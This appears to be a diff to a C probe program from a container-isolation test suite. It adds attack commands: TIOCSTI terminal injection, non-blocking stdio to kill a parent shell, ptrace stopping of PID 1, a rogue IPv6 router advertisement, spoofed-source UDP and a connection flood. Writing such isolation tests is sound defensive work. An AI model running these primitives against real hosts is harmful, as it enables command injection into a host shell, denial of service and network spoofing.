@@ -9,22 +9,33 @@
  * writing, writes a value back unchanged, loads an invalid module image, or acts on
  * files and processes the suite made for it. It never writes to a device.
  */
+#include <arpa/inet.h>
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <sched.h>
 #include <net/if.h>
+#include <netinet/icmp6.h>
+#include <netinet/in.h>
+#include <netinet/ip.h>
+#include <netinet/udp.h>
+#include <poll.h>
 #include <signal.h>
 #include <stdbool.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ioctl.h>
 #include <sys/mount.h>
 #include <sys/ptrace.h>
+#include <sys/resource.h>
+#include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/statvfs.h>
 #include <sys/syscall.h>
 #include <sys/sysmacros.h>
+#include <sys/wait.h>
+#include <termios.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -40,6 +51,8 @@ static const char *errname(int e)
 	    {EACCES, "EACCES"},   {EBUSY, "EBUSY"},   {ENODEV, "ENODEV"},   {ENXIO, "ENXIO"},
 	    {EINVAL, "EINVAL"},   {EROFS, "EROFS"},   {ETXTBSY, "ETXTBSY"}, {ENOSYS, "ENOSYS"},
 	    {ENOEXEC, "ENOEXEC"}, {EFAULT, "EFAULT"}, {ENOTDIR, "ENOTDIR"}, {EEXIST, "EEXIST"},
+	    {EIO, "EIO"},         {ENOTTY, "ENOTTY"}, {EAFNOSUPPORT, "EAFNOSUPPORT"},
+	    {ECONNRESET, "ECONNRESET"}, {ECONNREFUSED, "ECONNREFUSED"},
 	};
 	static char buf[16];
 
@@ -466,12 +479,268 @@ static int cmd_masked(void)
 	return outcome(leaked > 0);
 }
 
+
+/* "\n" in TEXT is a newline (the shell gives the attack a literal backslash-n). */
+static void unescape(const char *in, char *out, size_t size)
+{
+	size_t n = 0;
+
+	for (; *in && n + 1 < size; in++)
+		if (in[0] == '\\' && in[1] == 'n') {
+			out[n++] = '\n';
+			in++;
+		} else {
+			out[n++] = *in;
+		}
+	out[n] = '\0';
+}
+
+/* Push TEXT into the input of every terminal within reach: stdin, stdout, stderr and the
+ * controlling terminal. Whoever reads that terminal next (the host's shell, once launch
+ * exits, if it is the host's terminal) takes it as typed. */
+static int cmd_tiocsti(const char *arg)
+{
+	static const char *const targets[] = {"0", "1", "2", "/dev/tty"};
+	char text[256];
+	bool any = false;
+
+	unescape(arg, text, sizeof(text));
+	for (size_t t = 0; t < sizeof(targets) / sizeof(targets[0]); t++) {
+		int fd = t < 3 ? (int)t : open(targets[t], O_RDWR | O_NOCTTY | O_CLOEXEC);
+		int r = fd < 0 ? -1 : 0;
+
+		for (const char *p = text; r == 0 && *p; p++)
+			r = ioctl(fd, TIOCSTI, p);
+		printf("tiocsti_%s=%s\n", t < 3 ? targets[t] : "devtty", res(r));
+		any = any || r == 0;
+		if (t == 3 && fd >= 0)
+			close(fd);
+	}
+	return outcome(any);
+}
+
+/* O_NONBLOCK on the descriptions of stdin, stdout and stderr: shared with whoever gave
+ * them, a shell then reads EAGAIN and exits. */
+static int cmd_nonblock(void)
+{
+	bool any = false;
+
+	for (int fd = 0; fd < 3; fd++) {
+		int fl = fcntl(fd, F_GETFL), r = fl < 0 ? -1 : fcntl(fd, F_SETFL, fl | O_NONBLOCK);
+
+		printf("nonblock_%d=%s tty=%d\n", fd, res(r), isatty(fd));
+		any = any || (r == 0 && isatty(fd));
+	}
+	return outcome(any);
+}
+
+/* Stop PID 1: PTRACE_ATTACH sends it SIGSTOP; exiting at once leaves it stopped. "hold"
+ * keeps it in a trace stop until killed. */
+static int cmd_ptrace_init(const char *mode)
+{
+	bool hold = !strcmp(mode, "hold");
+	long r = ptrace(hold ? PTRACE_SEIZE : PTRACE_ATTACH, 1, 0, 0);
+	int st;
+
+	printf("ptrace=%s\n", res((int)r));
+	if (r == 0 && hold) {
+		r = ptrace(PTRACE_INTERRUPT, 1, 0, 0);
+		if (r == 0)
+			r = waitpid(1, &st, __WALL) == 1 ? 0 : -1;
+		printf("stopped=%s\nholding=1\n", res((int)r));
+		fflush(stdout);
+		for (;;)
+			pause();
+	}
+	return outcome(r == 0);
+}
+
+/* Socket families a container has no use for; vsock shares the host's port space. */
+static int cmd_families(void)
+{
+	static const struct {
+		int family;
+		const char *name;
+	} fams[] = {{40, "vsock"}, {38, "alg"}, {30, "tipc"}, {21, "rds"}, {3, "ax25"},
+	            {1, "unix"},   {2, "inet"}, {10, "inet6"}, {16, "netlink"}};
+	bool vsock = false;
+
+	for (size_t i = 0; i < sizeof(fams) / sizeof(fams[0]); i++) {
+		int fd = socket(fams[i].family, fams[i].family == 16 ? SOCK_RAW : SOCK_STREAM, 0);
+
+		if (fd < 0 && errno == ESOCKTNOSUPPORT)
+			fd = socket(fams[i].family, SOCK_SEQPACKET, 0);
+		if (fd < 0 && errno == ESOCKTNOSUPPORT)
+			fd = socket(fams[i].family, SOCK_DGRAM, 0);
+		printf("%s=%s\n", fams[i].name, res(fd));
+		if (fams[i].family == 40)
+			vsock = fd >= 0;
+		if (fd >= 0)
+			close(fd);
+	}
+	return outcome(vsock);
+}
+
+/* Waits (up to 5 s) for a usable link-local address on ifname: an RA must come from one. */
+static bool link_local_ready(const char *ifname)
+{
+	for (int i = 0; i < 100; i++) {
+		FILE *f = fopen("/proc/net/if_inet6", "re");
+		char addr[33], dev[32];
+		unsigned idx, plen, scope, flags;
+		bool ok = false;
+
+		while (f && fscanf(f, "%32s %x %x %x %x %31s", addr, &idx, &plen, &scope, &flags,
+		                   dev) == 6)
+			/* Link scope (0x20), neither tentative (0x40) nor failed DAD (0x08). */
+			ok = ok || (!strcmp(dev, ifname) && scope == 0x20 && !(flags & 0x48));
+		if (f)
+			fclose(f);
+		if (ok)
+			return true;
+		usleep(50000);
+	}
+	return false;
+}
+
+#define RA_PREFIX "2001:db8:b0c5::"
+
+/* One ICMPv6 router advertisement on ifname with the prefix 2001:db8:b0c5::/64, on-link
+ * and autonomous: a host that accepts it adds an address and a route on that link. The
+ * router lifetime is 0 (not a default router), so even an accepting host keeps its
+ * default route: the control harms nothing. */
+static int cmd_ra(const char *ifname)
+{
+	struct {
+		struct nd_router_advert ra;
+		struct nd_opt_prefix_info pi;
+	} pkt = {0};
+	struct sockaddr_in6 to = {.sin6_family = AF_INET6};
+	int hops = 255, sent = 0, fd = socket(AF_INET6, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMPV6);
+	unsigned idx = if_nametoindex(ifname);
+
+	printf("socket=%s\n", res(fd));
+	if (fd < 0 || !idx)
+		return outcome(false);
+	printf("link_local=%d\n", link_local_ready(ifname));
+	pkt.ra.nd_ra_type = ND_ROUTER_ADVERT;
+	pkt.ra.nd_ra_curhoplimit = 64;
+	pkt.pi.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION;
+	pkt.pi.nd_opt_pi_len = 4;
+	pkt.pi.nd_opt_pi_prefix_len = 64;
+	pkt.pi.nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO;
+	pkt.pi.nd_opt_pi_valid_time = htonl(600);
+	pkt.pi.nd_opt_pi_preferred_time = htonl(600);
+	inet_pton(AF_INET6, RA_PREFIX, &pkt.pi.nd_opt_pi_prefix);
+	inet_pton(AF_INET6, "ff02::1", &to.sin6_addr);
+	to.sin6_scope_id = idx;
+	setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof(hops));
+	setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_IF, &idx, sizeof(idx));
+	for (int i = 0; i < 3; i++, usleep(100000))
+		sent += sendto(fd, &pkt, sizeof(pkt), 0, (struct sockaddr *)&to, sizeof(to)) ==
+		        (ssize_t)sizeof(pkt);
+	printf("sent=%d\n", sent);
+	close(fd);
+	/* Whether a host took it is seen there: this only says it went out. */
+	return outcome(sent > 0);
+}
+
+static uint16_t csum(const void *p, size_t n)
+{
+	const uint16_t *w = p;
+	uint32_t sum = 0;
+
+	for (; n > 1; n -= 2)
+		sum += *w++;
+	if (n)
+		sum += *(const uint8_t *)w;
+	while (sum >> 16)
+		sum = (sum & 0xffff) + (sum >> 16);
+	return (uint16_t)~sum;
+}
+
+/* A UDP datagram to DST:PORT that claims to come from SRC (another container, say). */
+static int cmd_spoof(const char *src, const char *dst, const char *port)
+{
+	struct {
+		struct iphdr ip;
+		struct udphdr udp;
+		char data[8];
+	} pkt = {0};
+	struct sockaddr_in to = {.sin_family = AF_INET};
+	int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
+	ssize_t n;
+
+	printf("socket=%s\n", res(fd));
+	if (fd < 0)
+		return outcome(false);
+	memcpy(pkt.data, "spoofed", 8);
+	pkt.ip.version = 4;
+	pkt.ip.ihl = 5;
+	pkt.ip.ttl = 64;
+	pkt.ip.protocol = IPPROTO_UDP;
+	pkt.ip.tot_len = htons(sizeof(pkt));
+	inet_pton(AF_INET, src, &pkt.ip.saddr);
+	inet_pton(AF_INET, dst, &pkt.ip.daddr);
+	pkt.ip.check = csum(&pkt.ip, sizeof(pkt.ip));
+	pkt.udp.source = htons(9);
+	pkt.udp.dest = htons((uint16_t)atoi(port));
+	pkt.udp.len = htons(sizeof(pkt.udp) + sizeof(pkt.data));
+	to.sin_addr.s_addr = pkt.ip.daddr;
+	n = sendto(fd, &pkt, sizeof(pkt), 0, (struct sockaddr *)&to, sizeof(to));
+	printf("sent=%s\n", res((int)n));
+	close(fd);
+	return outcome(n == (ssize_t)sizeof(pkt));
+}
+
+/* N connections at once to IP:PORT (the container's own published port, through its
+ * gateway), held for SECONDS. Prints how many the far end kept and how many it reset. */
+static int cmd_conns(const char *ip, const char *port, const char *count, const char *secs)
+{
+	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port))};
+	struct rlimit rl;
+	int n = atoi(count), opened = 0, alive = 0, reset = 0;
+	int *fds = calloc((size_t)n, sizeof(int));
+	struct pollfd *p = calloc((size_t)n, sizeof(*p));
+
+	if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < (rlim_t)n + 16) {
+		rl.rlim_cur = rl.rlim_max < (rlim_t)n + 16 ? rl.rlim_max : (rlim_t)n + 16;
+		setrlimit(RLIMIT_NOFILE, &rl);
+	}
+	inet_pton(AF_INET, ip, &to.sin_addr);
+	for (int i = 0; i < n; i++) {
+		fds[i] = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+		if (fds[i] >= 0 && connect(fds[i], (struct sockaddr *)&to, sizeof(to)) == 0)
+			opened++;
+		p[i] = (struct pollfd){.fd = fds[i], .events = POLLIN};
+	}
+	/* A connection the far end refused after accepting it reads as reset or EOF. */
+	usleep(1000000);
+	poll(p, (nfds_t)n, 0);
+	for (int i = 0; i < n; i++) {
+		char c;
+
+		if (fds[i] < 0)
+			continue;
+		if ((p[i].revents & (POLLIN | POLLHUP | POLLERR)) &&
+		    recv(fds[i], &c, 1, MSG_DONTWAIT) <= 0)
+			reset++;
+		else
+			alive++;
+	}
+	printf("opened=%d\nalive=%d\nreset=%d\nready=1\n", opened, alive, reset);
+	fflush(stdout);
+	sleep((unsigned)atoi(secs));
+	return outcome(alive == n);
+}
+
 static const char usage[] =
     "usage: attack COMMAND [ARG...]\n"
     "  chroot | exe PID SECONDS | blockdevs | mknod b|c MAJ:MIN | mount MAJ:MIN FSTYPE\n"
     "  open-write PATH | rewrite PATH | module | kill PID | see-pid PID | see-mount PATH\n"
     "  see-net | fd N NAME | keyring | cgroup [FILE] | remount PATH [sb] | userns\n"
-    "  masked\n";
+    "  masked | tiocsti TEXT | nonblock | ptrace-init attach|hold | families\n"
+    "  ra IFNAME | spoof SRC DST PORT | conns IP PORT N SECONDS\n";
 
 int main(int argc, char **argv)
 {
@@ -516,6 +785,20 @@ int main(int argc, char **argv)
 		r = cmd_userns();
 	else if (n == 0 && !strcmp(cmd, "masked"))
 		r = cmd_masked();
+	else if (n == 1 && !strcmp(cmd, "tiocsti"))
+		r = cmd_tiocsti(argv[2]);
+	else if (n == 0 && !strcmp(cmd, "nonblock"))
+		r = cmd_nonblock();
+	else if (n == 1 && !strcmp(cmd, "ptrace-init"))
+		r = cmd_ptrace_init(argv[2]);
+	else if (n == 0 && !strcmp(cmd, "families"))
+		r = cmd_families();
+	else if (n == 1 && !strcmp(cmd, "ra"))
+		r = cmd_ra(argv[2]);
+	else if (n == 3 && !strcmp(cmd, "spoof"))
+		r = cmd_spoof(argv[2], argv[3], argv[4]);
+	else if (n == 4 && !strcmp(cmd, "conns"))
+		r = cmd_conns(argv[2], argv[3], argv[4], argv[5]);
 	if (r < 0) {
 		fputs(usage, stderr);
 		return EXIT_USAGE;
